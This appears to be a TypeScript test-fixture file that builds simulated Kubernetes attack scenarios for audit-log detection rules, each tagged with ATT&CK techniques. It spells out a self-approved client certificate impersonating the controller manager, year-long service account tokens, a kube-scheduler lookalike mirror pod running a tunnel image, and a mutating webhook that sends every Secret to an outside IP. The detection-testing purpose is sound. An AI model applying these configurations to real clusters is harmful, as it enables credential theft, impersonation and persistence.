/** Coming back: certificates, tokens, mirror pods, and a webhook that sees everything. */
import { ACTORS, kubelet, PEOPLE } from '../cluster.ts';
import { nameUuid } from '../random.ts';
import type { Actor, Ref } from '../request.ts';
import { ADMISSION, asksForToken, creates, holding, stolen } from './actions.ts';
import { type Step, type Storyline, step } from './types.ts';

const [alice, bob, , , erin] = PEOPLE;
const CSRS = { resource: 'certificatesigningrequests', apiGroup: 'certificates.k8s.io' };
const SIGNER = 'kubernetes.io/kube-apiserver-client';
const erinAdmin = holding(erin, 'certificate-approver');

/** PKCS#10 requests in PEM and base64: for erin in system:masters, and for system:kube-controller-manager. */
const FOR_MASTERS =
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIaU1JR0tBZ0VBTUNneEZ6QVZCZ05WQkFvTURuTjVjM1JsYlRwdFlYTjBaWEp6TVEwd0N3WURWUVFEREFSbApjbWx1TUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFazJ0YTY4Z3V1WTJ6Q1BTdjFYNDNzOFVoCmtRQ2pZK2hWblRqeGRtWEFvSENYcDg4SklSTG5JTHpHSTRhUUhXdGgyUTRJcVhvckpwYTBpcEpKakpKZXBLQUEKTUFvR0NDcUdTTTQ5QkFNQ0EwY0FNRVFDSUVSdlNjZEt4Mjg0aG5jYTliT2srMis2R3QzbkhwM0lIZGRTc3pJbQoySVNuQWlCM1pXakdWYUkwUkdkSEFaYXpmb1phRjhudXBVemJ1SW9UTkg0WWIyTnlCdz09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=';
const FOR_CONTROLLER_MANAGER =
  'LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIa01JR0xBZ0VBTUNreEp6QWxCZ05WQkFNTUhuTjVjM1JsYlRwcmRXSmxMV052Ym5SeWIyeHNaWEl0YldGdQpZV2RsY2pCWk1CTUdCeXFHU000OUFnRUdDQ3FHU000OUF3RUhBMElBQkpOcld1dklMcm1Oc3dqMHI5VitON1BGCklaRUFvMlBvVlowNDhYWmx3S0J3bDZmUENTRVM1eUM4eGlPR2tCMXJZZGtPQ0tsNkt5YVd0SXFTU1l5U1hxU2cKQURBS0JnZ3Foa2pPUFFRREFnTklBREJGQWlFQTZtekg2R2RmSHUxSmhRVk1sSGRPRVZnTXJtOUZGdlNSYitYegpUVi94T09jQ0lIbmRyeFpHbTFBS2hKd1BjOURzazZ6bXhPR1FWWHZJMGdWQXNnSzBLZWg4Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=';

function asksForCertificate(at: number, name: string, request: string, refusal?: string): Step {
  const spec = { signerName: SIGNER, request, usages: ['client auth'], expirationSeconds: 31_536_000 };
  const more = refusal === undefined ? {} : { code: 403, refusal };
  return creates(at, erinAdmin, 'CertificateSigningRequest', { ...CSRS, name }, { spec }, more);
}

function approves(at: number, name: string): Step {
  const body = {
    kind: 'CertificateSigningRequest',
    apiVersion: 'certificates.k8s.io/v1',
    metadata: { name },
    status: { conditions: [{ type: 'Approved', status: 'True', reason: 'KubectlApprove' }] },
  };
  return step(at, erinAdmin, 'update', { ...CSRS, name, subresource: 'approval' }, { body });
}

const forgedManager: Actor = stolen(ACTORS.controllerManager, '203.0.113.52', ACTORS.controllerManager.agent);

/** Admission keeps system:masters out of certificates (CertificateSubjectRestriction), and no other powerful name. */
export const clientCertificate: Storyline = {
  name: 'client-certificate',
  summary:
    "erin is refused a certificate for system:masters, approves one for the controller manager's name and uses it from outside",
  attack: ['T1098.006', 'T1078'],
  actor: erin.username,
  mustFire: {
    metadata: ['csr-self-approved', 'csr-created-or-approved', 'system-identity-from-public-ip'],
    mixed: ['csr-privileged-identity'],
  },
  steps: [
    asksForCertificate(
      0,
      'erin-laptop',
      FOR_MASTERS,
      'certificatesigningrequests.certificates.k8s.io "erin-laptop" is forbidden: use of kubernetes.io/kube-apiserver-client signer with system:masters group is not allowed',
    ),
    asksForCertificate(60, 'erin-laptop', FOR_CONTROLLER_MANAGER),
    approves(75, 'erin-laptop'),
    step(90, erinAdmin, 'get', { ...CSRS, name: 'erin-laptop' }),
    step(240, forgedManager, 'list', { resource: 'secrets', namespace: 'kube-system' }),
  ],
};

const operator: Ref = { resource: 'serviceaccounts', namespace: 'monitoring', name: 'prometheus' };
const issued = `JTI=${nameUuid('long-lived token')}`;
const withToken: Actor = {
  ...stolen(ACTORS.prometheus, '203.0.113.53'),
  extra: { 'authentication.kubernetes.io/credential-id': [issued] },
};

/** A token that outlives its maker's own access. */
export const longLivedToken: Storyline = {
  name: 'long-lived-token',
  summary: 'bob asks for a token of monitoring/prometheus that lives a year, which then comes from outside',
  attack: ['T1528', 'T1098'],
  actor: bob.username,
  mustFire: {
    metadata: ['service-account-token-created', 'system-identity-from-public-ip'],
    mixed: ['long-lived-token'],
  },
  steps: [
    asksForToken(
      0,
      bob,
      operator,
      { expirationSeconds: 31_536_000, audiences: ['https://kubernetes.default.svc'] },
      { annotations: { 'authentication.kubernetes.io/issued-credential-id': issued } },
    ),
    step(300, withToken, 'list', { resource: 'nodes' }),
  ],
};

/** The old way, which never expires and names nobody who uses it. */
export const tokenSecret: Storyline = {
  name: 'token-secret',
  summary: 'bob creates a Secret that holds a token of ci/deployer for ever, and reads it',
  attack: ['T1528', 'T1098'],
  actor: bob.username,
  mustFire: { metadata: ['secrets-read'], request: ['token-secret-created'] },
  steps: [
    creates(
      0,
      bob,
      'Secret',
      { resource: 'secrets', namespace: 'ci', name: 'deployer-cache' },
      {
        metadata: { annotations: { 'kubernetes.io/service-account.name': 'deployer' } },
        type: 'kubernetes.io/service-account-token',
      },
    ),
    step(5, bob, 'get', { resource: 'secrets', namespace: 'ci', name: 'deployer-cache' }),
  ],
};

/** Written into a folder of the node, not sent to the API server: this is the kubelet's reflection of it. */
export const mirrorPod: Storyline = {
  name: 'mirror-pod',
  summary:
    'A manifest dropped on worker-3 shows as a mirror pod in kube-system, named like a part of the control plane',
  attack: ['T1543.005', 'T1036.005'],
  actor: kubelet('worker-3').username,
  mustFire: { mixed: ['static-pod-created'] },
  steps: [
    creates(
      0,
      kubelet('worker-3'),
      'Pod',
      { resource: 'pods', namespace: 'kube-system', name: 'kube-scheduler-worker-3' },
      {
        metadata: {
          annotations: { 'kubernetes.io/config.mirror': '8a1f', 'kubernetes.io/config.source': 'file' },
          ownerReferences: [{ apiVersion: 'v1', kind: 'Node', name: 'worker-3', uid: nameUuid('worker-3') }],
        },
        spec: {
          nodeName: 'worker-3',
          hostNetwork: true,
          containers: [{ name: 'kube-scheduler', image: 'docker.io/somebody/tunnel:2' }],
        },
      },
      { uri: '/api/v1/namespaces/kube-system/pods' },
    ),
  ],
};

/** Every Secret and every token passes by. */
export const listeningWebhook: Storyline = {
  name: 'listening-webhook',
  summary: 'alice registers a webhook outside of the cluster that is shown every Secret that is written',
  attack: ['T1556', 'T1557'],
  actor: alice.username,
  mustFire: { metadata: ['admission-webhook-changed'], mixed: ['webhook-intercepts-credentials'] },
  steps: [
    creates(
      0,
      holding(alice, 'cluster-admin'),
      'MutatingWebhookConfiguration',
      { ...ADMISSION, resource: 'mutatingwebhookconfigurations', name: 'label-defaults' },
      {
        webhooks: [
          {
            name: 'labels.example.com',
            clientConfig: { url: 'https://203.0.113.70/labels' },
            rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE', 'UPDATE'], resources: ['secrets'] }],
            failurePolicy: 'Ignore',
            sideEffects: 'None',
            admissionReviewVersions: ['v1'],
          },
        ],
      },
    ),
  ],
};
